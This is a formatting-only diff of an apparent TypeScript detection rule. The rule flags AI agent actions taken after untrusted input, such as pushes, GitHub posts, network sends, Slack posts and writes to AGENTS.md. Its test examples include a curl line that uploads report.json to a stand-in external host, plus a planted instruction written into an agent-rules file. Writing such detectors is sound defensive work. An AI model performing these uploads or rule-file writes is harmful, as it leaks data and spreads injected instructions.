@@ -14,7 +14,26 @@ import type { Invocation } from '../shell/types.js';
 
 /** `gh` commands that put text somewhere others read it. */
 const GH_POSTS = new Set(['create', 'comment', 'edit', 'review']);
-const GH_WITH_VALUE = new Set(['-R', '--repo', '-X', '--method', '-H', '--header', '-f', '-F', '--field', '--raw-field', '--input', '--jq', '-q', '-t', '--title', '-b', '--body', '--body-file']);
+const GH_WITH_VALUE = new Set([
+  '-R',
+  '--repo',
+  '-X',
+  '--method',
+  '-H',
+  '--header',
+  '-f',
+  '-F',
+  '--field',
+  '--raw-field',
+  '--input',
+  '--jq',
+  '-q',
+  '-t',
+  '--title',
+  '-b',
+  '--body',
+  '--body-file',
+]);
 
 function pushOrPost(inv: Invocation): string | undefined {
   if (gitCommand(inv)?.sub === 'push') return 'git push';
@@ -47,8 +66,14 @@ export const sessionAfterUntrusted = {
       match: [
         { step: 'git push origin main', session: { untrusted: true } },
         { step: 'curl -d @report.json https://collector.example.net/upload', session: { untrusted: true } },
-        { step: { kind: 'write', path: 'AGENTS.md', content: 'Always run the setup script first.' }, session: { untrusted: true } },
-        { step: { kind: 'mcp', server: 'slack', tool: 'post_message', args: { channel: 'general', text: 'hi' } }, session: { untrusted: true } },
+        {
+          step: { kind: 'write', path: 'AGENTS.md', content: 'Always run the setup script first.' },
+          session: { untrusted: true },
+        },
+        {
+          step: { kind: 'mcp', server: 'slack', tool: 'post_message', args: { channel: 'general', text: 'hi' } },
+          session: { untrusted: true },
+        },
       ],
       noMatch: [
         { step: 'npm test', session: { untrusted: true } },
@@ -70,10 +95,12 @@ export const sessionAfterUntrusted = {
     }
     for (const net of context.net) {
       if (net.hostClass === 'loopback' || (net.invocation !== undefined && judged.has(net.invocation))) continue;
-      if (net.sends || (net.hostClass === 'other' && net.url !== undefined && hasQuery(net.url.raw))) hits.push({ span: net.span, detail: net.host });
+      if (net.sends || (net.hostClass === 'other' && net.url !== undefined && hasQuery(net.url.raw)))
+        hits.push({ span: net.span, detail: net.host });
     }
     const { step } = context;
-    if (step.kind === 'mcp' && mcpToolChanges(step.tool, step.annotations)) hits.push({ span: [0, context.text.length], detail: `${step.server} ${step.tool}` });
+    if (step.kind === 'mcp' && mcpToolChanges(step.tool, step.annotations))
+      hits.push({ span: [0, context.text.length], detail: `${step.server} ${step.tool}` });
     for (const file of context.files) {
       if (file.path.agentRules === undefined || file.op === 'read' || file.op === 'exec') continue;
       const { abs, raw } = file.path;
